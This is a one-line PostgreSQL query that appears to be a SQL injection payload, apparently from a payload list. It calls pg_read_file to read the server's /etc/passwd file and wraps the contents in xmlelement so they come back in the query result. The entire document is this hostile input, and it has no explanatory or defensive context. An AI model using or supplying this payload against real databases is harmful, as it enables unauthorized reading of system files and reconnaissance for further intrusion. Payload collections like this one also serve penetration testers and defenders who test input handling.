SELECT xmlelement(name a, pg_read_file('/etc/passwd'))
